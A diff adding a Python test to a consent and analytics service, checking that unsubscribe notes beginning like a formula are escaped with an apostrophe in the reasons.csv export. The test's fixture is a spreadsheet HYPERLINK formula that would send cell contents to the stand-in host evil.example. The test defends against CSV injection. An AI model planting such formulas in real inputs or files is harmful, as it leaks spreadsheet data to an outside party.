@@ -94,3 +94,14 @@ def test_optout_rate_counts_sends_reported_through_message_sends_once(engine):
     assert [(m.message_id, m.optouts, m.sent) for m in r.messages] == [("<m1@brand>", 1, 3)]
     sms = analytics.report(engine, account_id, "sms", today, today)
     assert sms.total.sent == 0
+
+
+def test_an_unsubscribe_reason_typed_as_a_formula_opens_as_text_in_a_spreadsheet(server, owner):
+    # What the public types on the unsubscribe page reaches the brand's spreadsheet through
+    # reasons.csv: a text starting like a formula is written with a leading apostrophe.
+    typed = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
+    consent.subscribe(server.engine, owner.account_id, Locator("email", "f@example.com"), EMAIL)
+    why = Proof(reason="other", note=typed, message_id="<m1@brand>")
+    consent.unsubscribe(server.engine, owner.account_id, Locator("email", "f@example.com"), Channel.EMAIL, proof=why)
+    rows = list(csv.DictReader(io.StringIO(owner.get("/console/analytics/reasons.csv").text)))
+    assert [(r["reason"], r["text"], r["optouts"]) for r in rows] == [("other", "'" + typed, "1")]
